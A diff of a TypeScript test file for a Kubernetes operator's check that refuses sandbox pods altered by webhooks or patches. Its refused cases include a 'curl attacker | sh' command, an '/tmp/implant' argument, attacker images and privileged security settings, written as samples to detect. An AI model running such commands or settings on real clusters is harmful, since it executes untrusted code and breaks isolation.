@@ -2,7 +2,7 @@
 // custom image, egress, a claimed warm pool pod, each with what the API server adds at
 // admission) pass; every kind of credential a mutating webhook or sidecar injector adds is
 // named, and the message says what was added and what to change.
-import type { V1Pod } from '@kubernetes/client-node';
+import { V1Capabilities, V1PodSecurityContext, V1SeccompProfile, V1SecurityContext, type V1Pod } from '@kubernetes/client-node';
 import { describe, expect, it } from 'vitest';
 import { codingRunSpec, type ParsedCodingRun } from '../../operator/src/api/index.ts';
 import { loadOperatorConfig } from '../../operator/src/config/operator-config.ts';
@@ -56,9 +56,57 @@ function admitted(pod: V1Pod): V1Pod {
     preemptionPolicy: 'PreemptLowerPriority',
   });
   for (const container of [...spec.containers, ...(spec.initContainers ?? [])]) {
-    Object.assign(container, { terminationMessagePath: '/dev/termination-log', terminationMessagePolicy: 'File' });
+    Object.assign(container, {
+      terminationMessagePath: '/dev/termination-log',
+      terminationMessagePolicy: 'File',
+      resizePolicy: [{ resourceName: 'cpu', restartPolicy: 'NotRequired' }],
+    });
   }
   for (const volume of spec.volumes ?? []) if (volume.emptyDir) volume.emptyDir = { ...volume.emptyDir };
+  // And what the kubelet reports once the containers run: nothing restarted.
+  copy.status = {
+    phase: 'Running',
+    containerStatuses: spec.containers.map((container) => ({
+      name: container.name,
+      image: `docker.io/${container.image}`,
+      imageID: 'docker.io/chamvi/sandbox@sha256:0123',
+      restartCount: 0,
+      ready: true,
+    })),
+  };
+  return copy;
+}
+
+/** As OpenShift's SCC admission (an SELinux level, the scc annotation) and the AlwaysPullImages plugin leave it. */
+function admittedOnOpenShift(pod: V1Pod): V1Pod {
+  const copy = admitted(pod);
+  copy.metadata!.annotations = { 'openshift.io/scc': 'nonroot-v2' };
+  const spec = copy.spec!;
+  spec.securityContext = { ...spec.securityContext, seLinuxOptions: { level: 's0:c26,c5' } };
+  for (const container of [...spec.containers, ...(spec.initContainers ?? [])]) {
+    container.imagePullPolicy = 'Always';
+    // Capabilities spelled as the runtime also reads them, and one more dropped.
+    container.securityContext = { ...container.securityContext, capabilities: { drop: ['CAP_ALL', 'NET_RAW'] } };
+  }
+  return copy;
+}
+
+/** As client-node hands over a pod it read: its objects instances of the model classes, not plain objects. */
+function asReadByClientNode(pod: V1Pod): V1Pod {
+  const copy = structuredClone(pod);
+  const spec = copy.spec!;
+  const instance = <T extends object>(model: new () => T, value: object | undefined) => Object.assign(new model(), value);
+  spec.securityContext = instance(V1PodSecurityContext, {
+    ...spec.securityContext,
+    seccompProfile: instance(V1SeccompProfile, spec.securityContext!.seccompProfile),
+  });
+  for (const container of [...spec.containers, ...(spec.initContainers ?? [])]) {
+    container.securityContext = instance(V1SecurityContext, {
+      ...container.securityContext,
+      capabilities: instance(V1Capabilities, container.securityContext!.capabilities),
+      seccompProfile: instance(V1SeccompProfile, container.securityContext!.seccompProfile),
+    });
+  }
   return copy;
 }
 
@@ -95,6 +143,9 @@ const injected = (change: (pod: V1Pod) => void, base: V1Pod = admitted(buildSand
 };
 const sandbox = (pod: V1Pod) => pod.spec!.containers[0]!;
 
+/** A changed pod, the run it is checked for (the plain run unless named), and what the check names. */
+type RefusedCase = { name: string; pod: V1Pod; run?: ParsedCodingRun; added: Array<Pick<PodAddition, 'kind' | 'name' | 'container'>> };
+
 const additions = (pod: V1Pod, run: ParsedCodingRun = plainRun, checkConfig = config) =>
   podAdditions(pod, sandboxPodShape(run, checkConfig)).map(({ kind, name, container }) => ({
     kind,
@@ -121,6 +172,38 @@ describe('the admitted sandbox pod: what the operator builds passes', () => {
       run: parsedRun({ image: 'chamvi/sandbox:2' }),
       checkConfig: upgraded,
     },
+    {
+      name: 'a run pod made before an upgrade moved sandboxImage to another tag of its repository',
+      pod: admitted(buildSandboxPod(plainRun, config)),
+      run: plainRun,
+      checkConfig: upgraded,
+    },
+    {
+      name: 'a custom-image pod whose init container copied from the sandbox image an upgrade has since moved',
+      pod: admitted(buildSandboxPod(customRun, config)),
+      run: customRun,
+      checkConfig: upgraded,
+    },
+    {
+      name: 'a run pod as OpenShift SCC and AlwaysPullImages admit it',
+      pod: admittedOnOpenShift(buildSandboxPod(plainRun, config)),
+      run: plainRun,
+    },
+    {
+      name: 'a custom-image pod as OpenShift SCC and AlwaysPullImages admit it',
+      pod: admittedOnOpenShift(buildSandboxPod(customRun, config)),
+      run: customRun,
+    },
+    {
+      name: 'a run pod as client-node reads it (model class instances)',
+      pod: asReadByClientNode(admitted(buildSandboxPod(customRun, config))),
+      run: customRun,
+    },
+    {
+      name: 'a pod of a run with its own RuntimeClass',
+      pod: admitted(buildSandboxPod(parsedRun({ runtimeClassName: 'gvisor' }), config)),
+      run: parsedRun({ runtimeClassName: 'gvisor' }),
+    },
   ];
   it.each(cases)('$name', ({ pod, run, checkConfig }) => {
     expect(additions(pod, run, checkConfig)).toEqual([]);
@@ -135,7 +218,7 @@ describe('the admitted sandbox pod: what the operator builds passes', () => {
 });
 
 describe('the admitted sandbox pod: what a webhook adds is refused', () => {
-  const cases: Array<{ name: string; pod: V1Pod; added: Array<Pick<PodAddition, 'kind' | 'name' | 'container'>> }> = [
+  const cases: RefusedCase[] = [
     {
       name: 'EKS IRSA: a projected token, its mount and the AWS variables',
       pod: withIrsa(admitted(buildSandboxPod(plainRun, config))),
@@ -225,6 +308,7 @@ describe('the admitted sandbox pod: what a webhook adds is refused', () => {
         },
         admitted(buildSandboxPod(customRun, config)),
       ),
+      run: customRun,
       added: [{ kind: 'env', name: 'AWS_ROLE_ARN', container: 'chamvi-tools' }],
     },
     {
@@ -249,8 +333,8 @@ describe('the admitted sandbox pod: what a webhook adds is refused', () => {
       added: [{ kind: 'automountServiceAccountToken', name: 'unset' }],
     },
   ];
-  it.each(cases)('$name', ({ pod, added }) => {
-    expect(additions(pod)).toEqual(added);
+  it.each(cases)('$name', ({ pod, run, added }) => {
+    expect(additions(pod, run)).toEqual(added);
   });
 
   it("allows the custom-image init container in any run's pod, but not mounting its volume elsewhere", () => {
@@ -264,6 +348,238 @@ describe('the admitted sandbox pod: what a webhook adds is refused', () => {
     expect(additions({ ...base, spec: { ...base.spec!, initContainers: [moved] } })).toEqual([
       { kind: 'volumeMount', name: 'chamvi-tools', container: 'chamvi-tools' },
     ]);
+  });
+});
+
+describe('the admitted sandbox pod: another image, command or rights than the operator gave it is refused', () => {
+  const customPod = admitted(buildSandboxPod(customRun, config));
+  // The builders share one securityContext object between containers (and structuredClone keeps that): change the sandbox's alone.
+  const context = (pod: V1Pod) => (sandbox(pod).securityContext = { ...sandbox(pod).securityContext });
+  const gvisorRun = parsedRun({ runtimeClassName: 'gvisor' });
+  const cases: RefusedCase[] = [
+    {
+      name: 'kubectl set image: another image, before the kubelet restarts the container',
+      pod: injected((pod) => {
+        sandbox(pod).image = 'attacker/tools:1';
+      }),
+      added: [{ kind: 'image', name: 'attacker/tools:1', container: 'sandbox' }],
+    },
+    {
+      name: 'kubectl set image: another image, after the kubelet restarted the container from it',
+      pod: injected((pod) => {
+        sandbox(pod).image = 'attacker/tools:1';
+        pod.status!.containerStatuses![0]!.restartCount = 1;
+      }),
+      added: [
+        { kind: 'image', name: 'attacker/tools:1', container: 'sandbox' },
+        { kind: 'restart', name: '1', container: 'sandbox' },
+      ],
+    },
+    {
+      name: 'the image patched back after the container ran from another one (files it left in the emptyDirs stay)',
+      pod: injected((pod) => {
+        pod.status!.containerStatuses![0]!.restartCount = 2;
+      }),
+      added: [{ kind: 'restart', name: '2', container: 'sandbox' }],
+    },
+    {
+      name: "an image named like the operator's in another repository",
+      pod: injected((pod) => {
+        sandbox(pod).image = 'chamvi/sandbox-evil:1';
+      }),
+      added: [{ kind: 'image', name: 'chamvi/sandbox-evil:1', container: 'sandbox' }],
+    },
+    {
+      name: "the operator's image at another tag, in a pod of a run that named its own image",
+      pod: injected((pod) => {
+        sandbox(pod).image = 'chamvi/sandbox:1';
+      }, customPod),
+      run: customRun,
+      added: [{ kind: 'image', name: 'chamvi/sandbox:1', container: 'sandbox' }],
+    },
+    {
+      name: "another image for the custom image's init container, which copies in the toolbox",
+      pod: injected((pod) => {
+        pod.spec!.initContainers![0]!.image = 'attacker/toolbox:1';
+      }, customPod),
+      run: customRun,
+      added: [{ kind: 'image', name: 'attacker/toolbox:1', container: 'chamvi-tools' }],
+    },
+    {
+      name: 'a custom image pulled IfNotPresent (security #11.10: the kubelet would skip the registry)',
+      pod: injected((pod) => {
+        sandbox(pod).imagePullPolicy = 'IfNotPresent';
+      }, customPod),
+      run: customRun,
+      added: [{ kind: 'imagePullPolicy', name: 'IfNotPresent', container: 'sandbox' }],
+    },
+    {
+      name: 'another command',
+      pod: injected((pod) => {
+        sandbox(pod).command = ['sh', '-c', 'curl attacker | sh'];
+        sandbox(pod).args = [];
+      }),
+      added: [{ kind: 'command', name: '["sh","-c","curl attacker | sh"] []', container: 'sandbox' }],
+    },
+    {
+      name: 'other args',
+      pod: injected((pod) => {
+        sandbox(pod).args = ['/tmp/implant'];
+      }),
+      added: [{ kind: 'command', name: '[] ["/tmp/implant"]', container: 'sandbox' }],
+    },
+    {
+      name: 'privileged: true',
+      pod: injected((pod) => {
+        context(pod).privileged = true;
+      }),
+      added: [{ kind: 'securityContext', name: 'privileged true', container: 'sandbox' }],
+    },
+    {
+      name: 'runAsUser 0',
+      pod: injected((pod) => {
+        context(pod).runAsUser = 0;
+      }),
+      added: [{ kind: 'securityContext', name: 'runAsUser 0', container: 'sandbox' }],
+    },
+    {
+      name: 'runAsNonRoot removed and runAsGroup 0',
+      pod: injected((pod) => {
+        delete context(pod).runAsNonRoot;
+        context(pod).runAsGroup = 0;
+      }),
+      added: [
+        { kind: 'securityContext', name: 'runAsNonRoot unset', container: 'sandbox' },
+        { kind: 'securityContext', name: 'runAsGroup 0', container: 'sandbox' },
+      ],
+    },
+    {
+      name: 'an added capability (SYS_ADMIN)',
+      pod: injected((pod) => {
+        context(pod).capabilities = { drop: ['ALL'], add: ['SYS_ADMIN'] };
+      }),
+      added: [{ kind: 'securityContext', name: 'capabilities.add SYS_ADMIN', container: 'sandbox' }],
+    },
+    {
+      name: 'capabilities no longer dropped',
+      pod: injected((pod) => {
+        delete context(pod).capabilities;
+      }),
+      added: [{ kind: 'securityContext', name: 'capabilities.drop without ALL', container: 'sandbox' }],
+    },
+    {
+      name: 'allowPrivilegeEscalation: true',
+      pod: injected((pod) => {
+        context(pod).allowPrivilegeEscalation = true;
+      }),
+      added: [{ kind: 'securityContext', name: 'allowPrivilegeEscalation true', container: 'sandbox' }],
+    },
+    {
+      name: 'a writable root filesystem',
+      pod: injected((pod) => {
+        context(pod).readOnlyRootFilesystem = false;
+      }),
+      added: [{ kind: 'securityContext', name: 'readOnlyRootFilesystem false', container: 'sandbox' }],
+    },
+    {
+      name: 'no seccomp filter',
+      pod: injected((pod) => {
+        context(pod).seccompProfile = { type: 'Unconfined' };
+      }),
+      added: [{ kind: 'securityContext', name: 'seccompProfile {"type":"Unconfined"}', container: 'sandbox' }],
+    },
+    {
+      name: 'an unmasked /proc, no AppArmor profile, the unconfined SELinux type',
+      pod: injected((pod) => {
+        Object.assign(context(pod), {
+          procMount: 'Unmasked',
+          appArmorProfile: { type: 'Unconfined' },
+          seLinuxOptions: { type: 'spc_t' },
+        });
+      }),
+      added: [
+        { kind: 'securityContext', name: 'procMount Unmasked', container: 'sandbox' },
+        { kind: 'securityContext', name: 'appArmorProfile {"type":"Unconfined"}', container: 'sandbox' },
+        { kind: 'securityContext', name: 'seLinuxOptions {"type":"spc_t"}', container: 'sandbox' },
+      ],
+    },
+    {
+      name: "privileged in the custom image's init container",
+      pod: injected((pod) => {
+        pod.spec!.initContainers![0]!.securityContext = { ...pod.spec!.initContainers![0]!.securityContext, privileged: true };
+      }, customPod),
+      run: customRun,
+      added: [{ kind: 'securityContext', name: 'privileged true', container: 'chamvi-tools' }],
+    },
+    {
+      name: "the pod's securityContext: runAsUser 0, no seccomp profile",
+      pod: injected((pod) => {
+        pod.spec!.securityContext = { ...pod.spec!.securityContext, runAsUser: 0, seccompProfile: undefined };
+      }),
+      added: [
+        { kind: 'podSecurityContext', name: 'runAsUser 0' },
+        { kind: 'podSecurityContext', name: 'seccompProfile unset' },
+      ],
+    },
+    {
+      name: 'hostNetwork, hostPID and hostIPC',
+      pod: injected((pod) => {
+        Object.assign(pod.spec!, { hostNetwork: true, hostPID: true, hostIPC: true });
+      }),
+      added: [
+        { kind: 'hostNetwork', name: 'true' },
+        { kind: 'hostPID', name: 'true' },
+        { kind: 'hostIPC', name: 'true' },
+      ],
+    },
+    {
+      name: 'another ServiceAccount',
+      pod: injected((pod) => {
+        pod.spec!.serviceAccountName = 'deployer';
+      }),
+      added: [{ kind: 'serviceAccountName', name: 'deployer' }],
+    },
+    {
+      name: 'a RuntimeClass the operator did not ask for',
+      pod: injected((pod) => {
+        pod.spec!.runtimeClassName = 'runc-privileged';
+      }),
+      added: [{ kind: 'runtimeClassName', name: 'runc-privileged' }],
+    },
+    {
+      name: "the run's RuntimeClass (gvisor) taken away",
+      pod: injected(
+        (pod) => {
+          delete pod.spec!.runtimeClassName;
+        },
+        admitted(buildSandboxPod(gvisorRun, config)),
+      ),
+      run: gvisorRun,
+      added: [{ kind: 'runtimeClassName', name: 'none' }],
+    },
+  ];
+  it.each(cases)('$name', ({ pod, run, added }) => {
+    expect(additions(pod, run)).toEqual(added);
+  });
+
+  it('names the field, its value and what the operator set', () => {
+    const shape = sandboxPodShape(customRun, config);
+    const describe = (change: (pod: V1Pod) => void) => podAdditions(injected(change, customPod), shape).map(describeAddition);
+    expect(
+      describe((pod) => {
+        sandbox(pod).image = 'attacker/tools:1';
+        pod.status!.containerStatuses![0]!.restartCount = 1;
+      }),
+    ).toEqual([
+      "image attacker/tools:1 (the operator's pod has acme/builder:2) in container sandbox",
+      'container sandbox restarted 1 times (its image was changed while it ran)',
+    ]);
+    expect(
+      describe((pod) => {
+        context(pod).runAsUser = 0;
+        pod.spec!.hostPID = true;
+      }),
+    ).toEqual(["hostPID true (the operator's pod has false)", 'securityContext runAsUser 0 (the operator sets 1000) in container sandbox']);
   });
 });
 
@@ -290,6 +606,18 @@ describe('the message of a refused pod', () => {
     expect(message).not.toContain('eks.amazonaws.com');
     expect(message).toContain('container sidecar-7 (mesh/proxy) and 2 more');
     expect(message).not.toContain('sidecar-8');
+  });
+
+  it('says a changed image comes from a patch of the running pod or a rewriting webhook, and not the IRSA advice', () => {
+    const patched = injected((pod) => {
+      sandbox(pod).image = 'attacker/tools:1';
+    });
+    const message = podChangedMessage(where, podAdditions(patched, shape), shape);
+    expect(message).toContain("image attacker/tools:1 (the operator's pod has chamvi/sandbox:1) in container sandbox");
+    expect(message).toContain('kubectl set image');
+    expect(message).toContain("name the mirror's image in sandboxImage or spec.sandbox.image instead");
+    expect(message).not.toContain('A mutating admission webhook added or changed it');
+    expect(message).not.toContain('eks.amazonaws.com');
   });
 
   it('describes each kind of volume by what it reads', () => {
